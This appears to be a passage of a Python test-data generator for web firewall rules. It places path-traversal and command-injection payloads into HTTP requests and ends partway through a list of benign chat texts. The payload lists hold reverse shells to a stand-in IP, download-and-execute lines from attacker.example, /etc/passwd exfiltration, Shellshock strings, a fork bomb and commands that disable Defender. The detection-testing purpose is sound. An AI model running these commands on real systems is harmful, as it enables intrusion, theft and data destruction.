"""Blind examples for the command-injection (rce) and file-access (lfi) titles, written as a rule author's
positive tests: for each detection title, the canonical attack, one payload per alternative the title's family
covers (commands, separators, substitutions, redirections, builtins, Windows cmd and PowerShell forms, OS files and
traversal forms), then the variants a good rule must still catch (quoting and escaping, variable and wildcard
splicing, encodings a server decodes). 10 to 14 payloads per title; benign requests carry the same words as real
users type them.

Families and sub-families (one sub-family per detection title):
- lfi: traversal-encoded (930100, encoded /../), traversal-dotdot (930110, decoded /../), os-file-access (930120),
  restricted-file (930130, in the URL path), os-file-headers (4.x, OS files in request headers), traversal-triple-dot
  (4.x, /.../).
- rce: unix-cmd (932100), unix-cmd-105 (932105, the rest of the Unix command list), windows-cmd (932110),
  windows-cmd-115 (932115), powershell (932120), unix-shell-expr (932130), windows-for-if (932140),
  direct-unix-exec (932150), unix-shell-code (932160), shellshock-headers (932170), shellshock-args (932171),
  restricted-upload (932180), rce-bypass (932200, PL2), and the 4.x titles unix-cmd-plain (command without
  evasion), unix-evasion, unix-alias, unix-history, unix-pipe, unix-short-cmd (2-3 letter commands),
  sqlite-system, smtp-cmd, imap-cmd, pop3-cmd, windows-evasion, shell-headers (Unix shell code in headers),
  direct-unix-abs (absolute paths and wildcards).

Placements: every payload is sent twice. Once to one of our real routes, rotating per title over the query of
/api/users, the admin search form (with csrf_token), a JSON body of /api/users, a cookie, the User-Agent, the
Referer, a custom header, a parameter name, an XML body, a multipart field, a multipart filename and the URL path
(titles bound to one place keep to it: shellshock and the header titles to headers, restricted files to the path,
restricted uploads to the upload filename). Once the way a WAF's regression suite sends it (placements prefixed
"rs-"): to a path that is not our route (/, /index.php, /get, /post, /search, /api/v1/items) under an arbitrary
parameter name (foo, var, x, test, id, arg1) as a query string, form, JSON or XML body, or in the User-Agent,
Referer, a custom header or a cookie. Payloads that are already percent-encoded are sent as they are, so the
server decodes them; the others are encoded once.

Authorship and independence: written for this repository from general knowledge of each family and from the
rule titles alone (no rule, engine, ruleset regression test or public payload list was read), then measured once
through the real stack on unchanged code; payloads were not changed after the measurement. Deterministic: no
clock, no randomness.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request
from .records import numbered, print_records

NAME = "fiftyfourth"

RAW: set[str] = set()   # payloads written already percent-encoded: sent as they are


def raw(payload: str) -> str:
    RAW.add(payload)
    return payload


# ---------------------------------------------------------------------------------------------------- lfi titles
TRAVERSAL_ENCODED = [
    raw("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    raw("%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    raw("..%2f..%2f..%2fetc%2fshadow"),
    raw("%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    raw("..%5c..%5c..%5cboot.ini"),
    raw("%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    raw("..%252f..%252f..%252fetc%252fpasswd"),
    raw("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    raw("..%c0%af..%c0%af..%c0%afetc/passwd"),
    raw("..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    raw("%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    raw("..%u2216..%u2216windows%u2216system.ini"),
    raw("%2E%2E%2F%2E%2E%2Fapp%2Fconfig%2Fdatabase.yml"),
    raw(".%2e/.%2e/.%2e/etc/passwd"),
]

TRAVERSAL_DOTDOT = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/html/../../../etc/shadow",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..//..//..//etc//passwd",
    "..\\/..\\/..\\/etc/group",
    "images/../../../../../proc/self/environ",
    "../../../../var/www/app/.env",
    "..;/..;/..;/WEB-INF/web.xml",
    raw("../../../../etc/passwd%00.png"),
    "/../../../../../../../../etc/issue",
    ".\\..\\.\\..\\.\\..\\windows\\system32\\drivers\\etc\\hosts",
    "../../../../../../../../usr/local/etc/php/php.ini",
]

TRAVERSAL_TRIPLE_DOT = [
    ".../.../.../etc/passwd",
    "...\\...\\...\\windows\\win.ini",
    "/.../.../.../.../etc/shadow",
    "files/.../.../.../proc/self/cmdline",
    "..../..../..../etc/passwd",
    "...//...//...//etc/hosts",
    ".../....//.../etc/group",
    raw("%2e%2e%2e/%2e%2e%2e/etc/passwd"),
    raw("...%2f...%2f...%2fetc%2fpasswd"),
    "....\\....\\....\\boot.ini",
    "/static/..../..../..../app/config.yml",
    "...;/...;/WEB-INF/web.xml",
    raw("..%2e/..%2e/..%2e/etc/passwd"),
]

OS_FILE_ACCESS = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/proc/self/environ",
    "/proc/self/fd/2",
    "/etc/./passwd",
    "c:\\windows\\win.ini",
    "C:\\boot.ini",
    "c:/windows/system32/config/SAM",
    "/root/.ssh/id_rsa",
    "/home/deploy/.bash_history",
    "/var/log/nginx/access.log",
    "/etc/mysql/my.cnf",
    "/usr/local/apache2/conf/httpd.conf",
]

OS_FILE_HEADERS = [
    "/etc/passwd",
    "/proc/self/environ",
    "/etc/hosts",
    "c:\\windows\\system.ini",
    "/root/.bash_history",
    "/var/log/auth.log",
    "/etc/ssh/sshd_config",
    "/home/ubuntu/.aws/credentials",
    "/proc/version",
    "C:\\inetpub\\wwwroot\\web.config",
    "/etc/crontab",
    "/etc/sudoers",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
]

RESTRICTED_FILE = [
    ".git/config",
    ".git/HEAD",
    ".env",
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".svn/entries",
    ".DS_Store",
    "WEB-INF/web.xml",
    ".bash_history",
    ".aws/credentials",
    ".ssh/id_rsa",
    raw("%2egit/config"),
    ".HTACCESS",
]

# ---------------------------------------------------------------------------------------------------- rce titles
UNIX_CMD = [
    ";id",
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& uname -a",
    "& ls -la",
    "`id`",
    "$(whoami)",
    "8.8.8.8; nc -e /bin/sh 203.0.113.5 4444",
    raw("x%0aid"),
    "test\nwhoami",
    "a';id;'",
    "\";uname -a;\"",
    "foo|cat${IFS}/etc/passwd",
]

UNIX_CMD_105 = [
    ";wget http://attacker.example/x.sh -O /tmp/x.sh",
    "| curl http://attacker.example/s | sh",
    "&& python -c 'import os;os.system(\"id\")'",
    "; perl -e 'print `id`'",
    "|| ruby -e 'exec \"id\"'",
    "; php -r 'system(\"id\");'",
    "&& bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "; sh -c id",
    "| nc 203.0.113.5 4444 -e /bin/sh",
    "; chmod 777 /tmp/x",
    "&& rm -rf /tmp/*",
    "; ps aux",
    "| tail -n 20 /var/log/syslog",
    "; echo pwned > /var/www/html/x.txt",
]

WINDOWS_CMD = [
    "& dir",
    "| type c:\\windows\\win.ini",
    "&& net user",
    "|| ipconfig /all",
    "& systeminfo",
    "| whoami /priv",
    "& cmd /c dir c:\\",
    "&& cmd.exe /k ver",
    "| tasklist /v",
    "& net localgroup administrators",
    "| findstr /s /i password *.config",
    "& copy c:\\windows\\system32\\cmd.exe c:\\inetpub\\wwwroot\\x.exe",
    "& del /f /q c:\\temp\\*",
    "127.0.0.1 & ping -n 5 attacker.example",
]

WINDOWS_CMD_115 = [
    "& certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    "| bitsadmin /transfer j http://attacker.example/x.exe c:\\temp\\x.exe",
    "&& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& wmic process call create calc.exe",
    "| netstat -ano",
    "& sc query",
    "& schtasks /create /tn x /tr c:\\temp\\x.exe /sc onlogon",
    "& rundll32 shell32.dll,ShellExec_RunDLL calc.exe",
    "& mshta http://attacker.example/x.hta",
    "| regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    "& taskkill /F /IM MsMpEng.exe",
    "& nslookup attacker.example",
    "&& net share",
    "& start calc",
]

POWERSHELL = [
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')",
    "Invoke-Expression 'whoami'",
    "Invoke-WebRequest -Uri http://attacker.example/x.exe -OutFile x.exe",
    "Get-ChildItem C:\\Users -Recurse",
    "Start-Process cmd.exe -ArgumentList '/c whoami'",
    "& pwsh -c Get-Process",
    "Get-Content C:\\Windows\\win.ini",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "[System.Diagnostics.Process]::Start('calc')",
    "iwr http://attacker.example/x | iex",
    "Get-WmiObject Win32_OperatingSystem",
    "Remove-Item -Recurse -Force C:\\inetpub\\logs",
]

UNIX_SHELL_EXPR = [
    "$(id)",
    "`uname -a`",
    "$(cat /etc/passwd)",
    "<(curl http://attacker.example/x)",
    ">(nc 203.0.113.5 4444)",
    "$((7*7))",
    "${SHELL}",
    "`whoami`@example.com",
    "name=$(sleep 5)",
    "a$(printf 'x')b",
    "x`ls -la`y",
    "$(echo cm0gLXJmIC8= | base64 -d)",
    "$( id )",
    "` id `",
]

WINDOWS_FOR_IF = [
    "for /f \"tokens=*\" %i in ('whoami') do echo %i",
    "for /r c:\\ %f in (*.config) do type %f",
    "for /l %i in (1,1,100) do ping -n 1 10.0.0.%i",
    "for /d %d in (c:\\users\\*) do dir %d",
    "for %f in (c:\\windows\\*.ini) do type %f",
    "if exist c:\\windows\\win.ini (type c:\\windows\\win.ini)",
    "if not exist c:\\temp\\x.exe certutil -urlcache -f http://attacker.example/x.exe c:\\temp\\x.exe",
    "if defined ProgramFiles echo vulnerable",
    "if errorlevel 0 net user",
    "if %USERNAME%==admin whoami",
    "& for /F %a in ('dir /b') do del %a",
    "FOR /F \"usebackq\" %%i IN (`hostname`) DO echo %%i",
    "If /I \"%OS%\"==\"Windows_NT\" ver",
    "| for /f \"delims=\" %x in ('type c:\\boot.ini') do @echo %x",
]

DIRECT_UNIX_EXEC = [
    "cat /etc/passwd",
    "ls -la /",
    "uname -a",
    "whoami",
    "/bin/sh -c id",
    "nc -e /bin/sh 203.0.113.5 4444",
    "wget http://attacker.example/shell.sh",
    "curl -d @/etc/passwd http://attacker.example/",
    "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
    "/usr/bin/id",
    "bash -c 'id'",
    "telnet 203.0.113.5 23",
    "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
    "sleep 10",
]

UNIX_SHELL_CODE = [
    "/bin/bash",
    "/bin/sh -i",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "/bin/nc.traditional -l -p 4444 -e /bin/bash",
    "/usr/bin/wget",
    "/bin/cat /etc/shadow",
    "/usr/bin/python -m SimpleHTTPServer",
    "/bin/busybox telnetd -l /bin/sh",
    "/usr/bin/curl -o /tmp/x http://attacker.example/x",
    "/bin/zsh",
    "/usr/local/bin/php -r 'phpinfo();'",
    "/bin/dash -c id",
    "/usr/bin/env sh",
    "/bin//bash",
]

SHELLSHOCK_HEADERS = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { /bin/id; }",
    "() { :; }; /bin/ping -c 1 attacker.example",
    "(){ :;}; wget http://attacker.example/x",
    "() {:;}; curl http://attacker.example/$(whoami)",
    "() { x; }; echo vulnerable",
    "()  {  :;  };  /bin/sleep 5",
    "() { 0; }; /bin/uname -a",
    "() { :; }; exec 5<>/dev/tcp/203.0.113.5/4444",
    "() { a;};/bin/cat /etc/shadow",
    "() { (a)=>\\' bash -c \"echo date\"",
    "() { :; }; /usr/bin/env",
]

SHELLSHOCK_ARGS = [
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "() { :;}; /usr/bin/whoami",
    "() { foo; }; echo Content-Type: text/plain; echo; id",
    "(){ :; }; cat /etc/passwd",
    "() { :; }; nc 203.0.113.5 4444 -e /bin/sh",
    "() { _;} >_[$($())] { id; }",
    "() { ignored; }; /bin/ls",
    "() {  :;  }  ;  sleep 9",
    "() { :; } ; rm -f /tmp/x",
    raw("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
    "() { :; }; python -c 'import os'",
    "() { :|:& };:",
    "() { x;};echo;/bin/cat /etc/hostname",
]

RESTRICTED_UPLOAD = [
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    "web.config",
    ".user.ini",
    "php.ini",
    "global.asa",
    "global.asax",
    "applicationHost.config",
    ".bashrc",
    "../../.htaccess",
    ".HtAccess",
    "WEB.CONFIG",
    "uploads/.htaccess",
]

RCE_BYPASS = [
    "c''at /etc/passwd",
    "c\\at /e\\tc/pa\\sswd",
    "/???/c?t /???/p??s??",
    "/bin/ca[t] /etc/pass[w]d",
    "cat$IFS/etc/passwd",
    "w$@hoami",
    "wh\"\"oami",
    "who$()ami",
    "{cat,/etc/passwd}",
    "ca${x}t /etc/shadow",
    "/usr/bin/wh*mi",
    "$'\\x63\\x61\\x74' /etc/passwd",
    "i\\d",
    "cat</etc/passwd",
]

# 4.x titles
UNIX_CMD_PLAIN = [
    ";ls",
    "|ls /",
    "&&id",
    "||uname",
    "; netstat -an",
    "| ifconfig",
    "& env",
    "; crontab -l",
    "| head /etc/passwd",
    "; find / -perm -4000",
    "&& hostname",
    "; last",
    "| awk '{print $1}' /etc/passwd",
    "; base64 /etc/shadow",
]

UNIX_EVASION = [
    ";c'a't /etc/passwd",
    "|w\\h\\o\\a\\m\\i",
    "&&/bin/c\"a\"t /etc/hosts",
    ";$u cat /etc/passwd",
    "|ca$@t /etc/passwd",
    ";/b?n/l? -la",
    "&&who$()ami",
    ";un''ame -a",
    ";{ls,-la}",
    ";c${z}at</etc/passwd",
    "`w\\hoami`",
    "$(c\\at /etc/passwd)",
    ";$(printf 'id')",
    "&&cat /et*/pas*d",
]

UNIX_ALIAS = [
    "; alias x=id; x",
    "alias ls='ls; curl http://attacker.example/$(whoami)'",
    "| alias",
    "&& alias cd='rm -rf'",
    "; alias -p",
    "$(alias x='cat /etc/passwd')",
    "`alias`",
    "alias sudo='echo pwned'",
    "; unalias -a; id",
    "&& alias a=\"nc -e /bin/sh 203.0.113.5 4444\"; a",
    "\nalias g=id\ng",
    "; builtin alias w=whoami",
    "; a''lias x=id",
    "; \\ls -la",
]

UNIX_HISTORY = [
    "!!",
    "; !-1",
    "!cat",
    "!?passwd?",
    "; !$",
    "!#",
    "; history",
    "| history -c",
    "!-2:p",
    "^ls^id",
    "!!:s/ls/id/",
    "; fc -s",
    "; !1",
]

UNIX_PIPE = [
    "|id",
    "| sh",
    "|bash",
    "x|nc 203.0.113.5 80",
    "| base64 -d | sh",
    "|tee /tmp/x",
    "test | grep root /etc/passwd",
    "|sort /etc/shadow",
    "|| ls",
    "|& cat /etc/hosts",
    "| xxd /etc/passwd",
    "|od -c /etc/passwd",
    "foo | mail attacker@example.com < /etc/passwd",
    "| dd if=/etc/passwd",
]

UNIX_SHORT_CMD = [
    "; w",
    "; ps",
    "; df -h",
    "&& du -sh /",
    "| nl /etc/passwd",
    "; ed",
    "; su",
    "&& ip a",
    "; ss -lntp",
    "| wc -l /etc/passwd",
    "; cp /etc/passwd /tmp/p",
    "; ln -s /etc/passwd p",
    "; dig attacker.example",
    "; pwd",
]

SQLITE_SYSTEM = [
    ".system id",
    ".shell cat /etc/passwd",
    "; .system whoami",
    "\n.shell id",
    ".output /var/www/html/x.php",
    ".load /tmp/evil.so",
    ".import /etc/passwd t",
    ".once |id",
    ".read /tmp/x.sql",
    ".dump",
    "x';.shell id;--",
    "ATTACH DATABASE '/var/www/html/x.php' AS x;",
    "select load_extension('/tmp/evil.so');",
    ".system /bin/sh -c 'id'",
]

SMTP_CMD = [
    "x@example.com\r\nRCPT TO:<victim@example.org>",
    "x\r\nMAIL FROM:<ceo@example.com>",
    "\r\nDATA\r\nSubject: hi\r\n\r\nbody\r\n.\r\n",
    "HELO attacker.example",
    "EHLO attacker.example",
    "VRFY root",
    "EXPN admins",
    "x\r\nRSET\r\n",
    "\r\nQUIT\r\n",
    "AUTH LOGIN",
    "\r\nNOOP\r\n",
    raw("%0d%0aRCPT%20TO:<victim@example.org>"),
    "MAIL FROM:<a@attacker.example> SIZE=1000",
    "RCPT TO:<root@localhost>",
]

IMAP_CMD = [
    "INBOX\r\na1 LOGIN admin x",
    "\r\na2 SELECT INBOX",
    "a3 FETCH 1:* (BODY[])",
    "\r\na4 STORE 1 +FLAGS (\\Deleted)",
    "a5 COPY 1:* Trash",
    "a6 LIST \"\" \"*\"",
    "\r\na7 EXAMINE INBOX",
    "a8 CREATE evil",
    "a9 DELETE INBOX",
    "b1 RENAME INBOX old",
    "b2 CAPABILITY",
    "b3 UID FETCH 1:* (RFC822)",
    raw("INBOX%0d%0ab4%20LOGOUT"),
    "b5 AUTHENTICATE PLAIN",
]

POP3_CMD = [
    "USER admin",
    "\r\nPASS x",
    "\r\nSTAT",
    "LIST",
    "\r\nRETR 1",
    "DELE 1",
    "\r\nTOP 1 10",
    "UIDL",
    "APOP admin c4c9334bac560ecc979e58001b3e22fb",
    "\r\nRSET",
    "\r\nQUIT",
    raw("x%0d%0aRETR%201"),
    "USER a\r\nPASS b\r\nLIST",
]

WINDOWS_EVASION = [
    "& c^m^d /c whoami",
    "| w^h^o^a^m^i",
    "& cmd /c \"who\"\"ami\"",
    "&& %COMSPEC% /c dir",
    "& %SystemRoot%\\system32\\cmd.exe /c ver",
    "| c:\\windows\\system32\\cmd.exe /c type c:\\boot.ini",
    "& p^o^w^e^r^s^h^e^l^l -c id",
    "& cmd.exe,/c,whoami",
    "& cmd;/c;dir",
    "& set x=who&& set y=ami&& call %x%%y%",
    "& %ComSpec:~-16,1%%ComSpec:~-1%%ComSpec:~-13,1% /c dir",
    "& (cmd /c whoami)",
    "& C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c iex",
    "| cmd /v:on /c \"set a=whoami&&!a!\"",
]

SHELL_HEADERS = [
    "/bin/sh",
    "/bin/bash -i",
    "/usr/bin/curl http://attacker.example/x",
    "/usr/bin/wget -qO- http://attacker.example/x",
    "/bin/nc -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/python -c 'import socket'",
    "/usr/bin/perl -e 'print 1'",
    "/bin/cat /etc/passwd",
    "http://example.com/?q=/bin/bash",
    "/usr/bin/id",
    "/bin/busybox",
    "/usr/bin/php -r 'system(1);'",
    "/bin/zsh -c whoami",
]

DIRECT_UNIX_ABS = [
    "/bin/ls -la",
    "/usr/bin/wh?ami",
    "/???/?s -la",
    "/b*/c*t /e*c/p*d",
    "/usr/bin/n? -e /bin/sh 203.0.113.5 4444",
    "/bin/[c]at /etc/passwd",
    "/u*/b*/id",
    "/usr/sbin/useradd x",
    "/sbin/ifconfig",
    "/usr/bin/nohup /tmp/x &",
    "/bin/s[h] -c id",
    "/usr/local/bin/node -e 'require(\"child_process\").exec(\"id\")'",
    "/usr/bin/base64 -d /tmp/x",
    "/bin/rm -rf /",
]

# (category, sub, payloads, real placements, regression-suite kinds); None: the general rotation
GENERAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Note",
           "param-name", "xml", "multipart-field", "multipart-filename", "path"]
NO_PATH = [p for p in GENERAL if p != "path"]
HEADERS = ["header:User-Agent", "header:Referer", "header:X-Client-Note"]
ARGS_ONLY = ["query", "form", "json", "param-name", "multipart-field", "multipart-filename", "xml"]
RS_GENERAL = ["query", "form", "json", "xml", "header:User-Agent", "header:Referer", "header:X-Test-Data", "cookie"]
RS_HEADERS = ["header:User-Agent", "header:Referer", "header:X-Test-Data"]
RS_ARGS = ["query", "form", "json", "xml"]

TITLES: list[tuple[str, str, list[str], list[str], list[str]]] = [
    ("lfi", "traversal-encoded", TRAVERSAL_ENCODED, GENERAL, RS_GENERAL),
    ("lfi", "traversal-dotdot", TRAVERSAL_DOTDOT, NO_PATH, RS_GENERAL),
    ("lfi", "traversal-triple-dot", TRAVERSAL_TRIPLE_DOT, GENERAL, RS_GENERAL),
    ("lfi", "os-file-access", OS_FILE_ACCESS, NO_PATH, RS_GENERAL),
    ("lfi", "os-file-headers", OS_FILE_HEADERS, HEADERS, RS_HEADERS),
    ("lfi", "restricted-file", RESTRICTED_FILE, ["path"], ["path"]),
    ("rce", "unix-cmd", UNIX_CMD, GENERAL, RS_GENERAL),
    ("rce", "unix-cmd-105", UNIX_CMD_105, GENERAL, RS_GENERAL),
    ("rce", "windows-cmd", WINDOWS_CMD, GENERAL, RS_GENERAL),
    ("rce", "windows-cmd-115", WINDOWS_CMD_115, GENERAL, RS_GENERAL),
    ("rce", "powershell", POWERSHELL, GENERAL, RS_GENERAL),
    ("rce", "unix-shell-expr", UNIX_SHELL_EXPR, GENERAL, RS_GENERAL),
    ("rce", "windows-for-if", WINDOWS_FOR_IF, GENERAL, RS_GENERAL),
    ("rce", "direct-unix-exec", DIRECT_UNIX_EXEC, GENERAL, RS_GENERAL),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE, GENERAL, RS_GENERAL),
    ("rce", "shellshock-headers", SHELLSHOCK_HEADERS, HEADERS + ["cookie"], RS_HEADERS + ["cookie"]),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, ARGS_ONLY, RS_ARGS),
    ("rce", "restricted-upload", RESTRICTED_UPLOAD, ["multipart-filename", "multipart-filename", "header:X-Filename"],
     ["multipart-filename", "multipart-filename", "header:X-File-Name"]),
    ("rce", "rce-bypass", RCE_BYPASS, GENERAL, RS_GENERAL),
    ("rce", "unix-cmd-plain", UNIX_CMD_PLAIN, GENERAL, RS_GENERAL),
    ("rce", "unix-evasion", UNIX_EVASION, GENERAL, RS_GENERAL),
    ("rce", "unix-alias", UNIX_ALIAS, GENERAL, RS_GENERAL),
    ("rce", "unix-history", UNIX_HISTORY, GENERAL, RS_GENERAL),
    ("rce", "unix-pipe", UNIX_PIPE, GENERAL, RS_GENERAL),
    ("rce", "unix-short-cmd", UNIX_SHORT_CMD, GENERAL, RS_GENERAL),
    ("rce", "sqlite-system", SQLITE_SYSTEM, GENERAL, RS_GENERAL),
    ("rce", "smtp-cmd", SMTP_CMD, GENERAL, RS_GENERAL),
    ("rce", "imap-cmd", IMAP_CMD, GENERAL, RS_GENERAL),
    ("rce", "pop3-cmd", POP3_CMD, GENERAL, RS_GENERAL),
    ("rce", "windows-evasion", WINDOWS_EVASION, GENERAL, RS_GENERAL),
    ("rce", "shell-headers", SHELL_HEADERS, HEADERS, RS_HEADERS),
    ("rce", "direct-unix-abs", DIRECT_UNIX_ABS, GENERAL, RS_GENERAL),
]

REAL_NAMES = {"lfi": ["file", "path", "page", "template", "doc", "include", "img", "lang"],
              "rce": ["host", "q", "cmd", "name", "ip", "filename", "exec", "target"]}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----fiftyfourthFormBoundary7MA4YWxkTrZu0gW"
DEEP = "/api/files/a/b/c/d/e/f/g/h/"   # deep enough that nginx's own dot-segment handling stays inside the root
PCT = re.compile(r"%(?:[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4})")
COOKIE_SAFE = "!#$&'()*+,/:<=>?@[]^`{|}~"
PATH_SAFE = "/!$&'()*+,;=:@~"


def _enc(payload: str, safe: str = "") -> str:
    """The payload in a URL or form body: as it is when written pre-encoded (only spaces and separators of the
    surrounding syntax escaped), otherwise percent-encoded once."""
    if payload in RAW:
        return urllib.parse.quote(payload, safe="%/.:;@~" + safe)
    return urllib.parse.quote(payload, safe=safe)


def _cookie_value(payload: str) -> str:
    if payload in RAW:
        return payload
    return urllib.parse.quote(payload, safe=COOKIE_SAFE)


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _fits(place: str, payload: str) -> bool:
    """Header values and filenames cannot carry CR, LF or NUL (nor a filename a double quote), nor a path %u."""
    single_line = not any(c in payload for c in "\r\n\0")
    if place.startswith("header:") or place == "param-name":
        return single_line
    if place == "multipart-filename":
        return single_line and '"' not in payload
    if place == "path":
        return "%u" not in payload   # nginx refuses a path with %u escapes before any rule runs
    return True


def _multipart(uri: str, fields: list[tuple[str, str, str | None]]) -> dict[str, Any]:
    parts = []
    for name, value, filename in fields:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        ctype = "Content-Type: image/gif\r\n" if filename is not None else ""
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{value}\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _xml(uri: str, field: str, payload: str) -> dict[str, Any]:
    body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<request><user>ann</user><{field}>{_xml_escape(payload)}'
            f"</{field}></request>")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _with_header(rec: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], name: value}}


def _real(place: str, sub: str, name: str, payload: str, i: int) -> dict[str, Any]:
    """The payload in one of our real routes."""
    if place == "query":
        return _get(f"/api/users?{name}={_enc(payload)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]),
                "body": f"csrf_token=t0k3n&{name}={_enc(payload)}"}
    if place == "json":
        return _json("/api/users", {"email": "ann@example.org", name: payload})
    if place == "cookie":
        return _with_header(_get("/api/users?page=1"), "Cookie", f"session=abc123; {name}={_cookie_value(payload)}")
    if place.startswith("header:"):
        header = place.split(":", 1)[1]
        if header in ("X-Filename", "X-File-Name"):
            rec = {"method": "POST", "uri": "/api/users/42/avatar", "body": "GIF89a",
                   "headers": {"User-Agent": UA, "Content-Type": "application/octet-stream"}}
            return _with_header(rec, header, payload)
        return _with_header(_get("/api/users?page=1"), header, payload)
    if place == "param-name":
        return _get(f"/api/users?{_enc(payload)}=1&page=1")
    if place == "xml":
        return _xml("/api/users", name, payload)
    if place == "multipart-field":
        return _multipart("/api/users", [("name", "Ann", None), (name, payload, None)])
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", [("caption", "me", None), ("avatar", "GIF89a", payload)])
    # path
    if sub == "restricted-file":
        return _get(("/admin/", "/api/")[i % 2] + _enc(payload, PATH_SAFE))
    prefix = DEEP if sub.startswith("traversal") else "/api/users/"
    return _get(prefix + _enc(payload, PATH_SAFE))


def _suite(kind: str, sub: str, path: str, name: str, payload: str, i: int) -> dict[str, Any]:
    """The payload as a WAF regression suite sends it: a path that is not our route, an arbitrary name."""
    if kind == "query":
        return _get(f"{path}?{name}={_enc(payload)}")
    if kind == "form":
        return {**_form(path, []), "body": f"{name}={_enc(payload)}"}
    if kind == "json":
        return _json(path, {name: payload})
    if kind == "xml":
        return _xml(path, name, payload)
    if kind == "cookie":
        return _with_header(_get(path), "Cookie", f"{name}={_cookie_value(payload)}")
    if kind.startswith("header:"):
        header = kind.split(":", 1)[1]
        if header == "X-File-Name":
            rec = {"method": "POST", "uri": "/post", "body": "GIF89a",
                   "headers": {"User-Agent": UA, "Content-Type": "application/octet-stream"}}
            return _with_header(rec, header, payload)
        return _with_header(_get(f"{path}?{name}=1"), header, payload)
    if kind == "multipart-filename":
        return _multipart("/post", [(name, "GIF89a", payload)])
    # path: the file itself requested at the root or under the front controller
    return _get(("/", "/index.php/")[i % 2] + _enc(payload, PATH_SAFE))


def _pick(places: list[str], start: int, payload: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _fits(place, payload):
            return place
    return "query"


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, payloads, real_places, rs_kinds) in enumerate(TITLES):
        names = REAL_NAMES[category]
        for i, payload in enumerate(payloads):
            place = _pick(real_places, i + s, payload)
            real = _real(place, sub, names[(i + s) % len(names)], payload, i)
            kind = _pick(rs_kinds, i + 3 * s, payload)
            path = RS_PATHS[(i + s) % len(RS_PATHS)]
            if kind in ("form", "json", "xml") and path in ("/", "/get", "/search"):
                path = ("/post", "/index.php", "/api/v1/items")[i % 3]
            suite = _suite(kind, sub, path, RS_NAMES[(5 * i + s) % len(RS_NAMES)], payload, i)
            for rec, placement in ((real, place), (suite, "rs-" + kind)):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": payload}


# ---------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "can someone cat the logs from prod-api-3? I don't have access yet",
    "my cat walked across the keyboard and pushed to main, sorry all",
    "what's the user id for the new contractor? need it for the Jira invite",
    "run `ls -la` in the repo root and you'll see the hidden .env.example",
    "whoami on the build box says jenkins, so the perms are wrong",
    "ping me when the deploy is done",
    "ping 8.8.8.8 works from the pod, DNS is the issue",
    "curl -s https://api.example.com/health returns 200 for me",
    "wget is not installed in the alpine image, use curl instead",
    "python3 -m venv .venv && source .venv/bin/activate, then pip install -r requirements.txt",
    "the perl script that rotates logs is older than me",
    "ruby 3.3 upgrade went fine, rails tests green",
    "bash vs zsh debate again in #random 🙃",
    "I use sh -c in the Dockerfile only for the healthcheck",
    "netcat (nc -zv db 5432) confirms the port is open",
